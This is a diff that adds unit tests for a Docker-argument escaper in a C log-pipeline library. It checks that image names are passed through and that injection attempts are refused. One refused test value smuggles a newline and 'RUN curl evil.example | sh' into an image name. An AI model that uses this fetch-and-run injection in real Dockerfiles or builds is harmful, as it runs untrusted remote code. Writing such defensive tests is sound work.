@@ -117,6 +117,32 @@ static void test_escape__flb_value_injection_attempts(void **state)
 	assert_refused(LP_ESCAPE_FLB_VALUE, "esc\x1b[31m", 8, "control");
 }
 
+/* Image references and paths go through unchanged. */
+static void test_escape__docker_word(void **state)
+{
+	(void)state;
+	assert_escapes(LP_ESCAPE_DOCKER_WORD, "public.ecr.aws/aws-observability/aws-for-fluent-bit:3.2.1",
+		"public.ecr.aws/aws-observability/aws-for-fluent-bit:3.2.1");
+	assert_escapes(LP_ESCAPE_DOCKER_WORD, "fluent-bit@sha256:0123abcd", "fluent-bit@sha256:0123abcd");
+	assert_escapes(LP_ESCAPE_DOCKER_WORD, "/fluent-bit/config/logpipe.conf", "/fluent-bit/config/logpipe.conf");
+}
+
+static void test_escape__docker_word_injection_attempts(void **state)
+{
+	(void)state;
+	/* A newline in an image name would add an instruction of its own. */
+	assert_refused(LP_ESCAPE_DOCKER_WORD, "fluent-bit:3.2.1\nRUN curl evil.example | sh", 43, "line break");
+	assert_refused(LP_ESCAPE_DOCKER_WORD, "a b", 3, "blank");
+	assert_refused(LP_ESCAPE_DOCKER_WORD, "a\tb", 3, "blank");
+	assert_refused(LP_ESCAPE_DOCKER_WORD, "image:1\\", 8, "backslash");
+	assert_refused(LP_ESCAPE_DOCKER_WORD, "image:${TAG}", 12, "'$'");
+	assert_refused(LP_ESCAPE_DOCKER_WORD, "--platform=linux/arm64", 22, "flag");
+	assert_refused(LP_ESCAPE_DOCKER_WORD, "a\0b", 3, "control");
+	assert_refused(LP_ESCAPE_DOCKER_WORD, "esc\x1b[31m", 8, "control");
+	assert_refused(LP_ESCAPE_DOCKER_WORD, "", 0, "empty");
+	assert_refused(LP_ESCAPE_DOCKER_WORD, "\xff", 1, "UTF-8");
+}
+
 static void test_escape__names(void **state)
 {
 	(void)state;
@@ -126,6 +152,8 @@ static void test_escape__names(void **state)
 	/* Without a template to read the context from, Athena DDL means a bare word. */
 	assert_escapes(LP_ESCAPE_ATHENA_DDL, "col_1", "col_1");
 	assert_refused(LP_ESCAPE_ATHENA_DDL, "a'b", 3, "letters");
+	assert_string_equal(lp_escaper_name(LP_ESCAPE_DOCKER_WORD), "docker-word");
+	assert_string_equal(lp_escaper_context(LP_ESCAPE_DOCKER_WORD), "a Dockerfile argument");
 }
 
 int main(void)
@@ -137,6 +165,8 @@ int main(void)
 		cmocka_unit_test(test_escape__sql_ident),
 		cmocka_unit_test(test_escape__flb_value),
 		cmocka_unit_test(test_escape__flb_value_injection_attempts),
+		cmocka_unit_test(test_escape__docker_word),
+		cmocka_unit_test(test_escape__docker_word_injection_attempts),
 		cmocka_unit_test(test_escape__names),
 	};
 	return cmocka_run_group_tests_name("escape", tests, NULL, NULL);
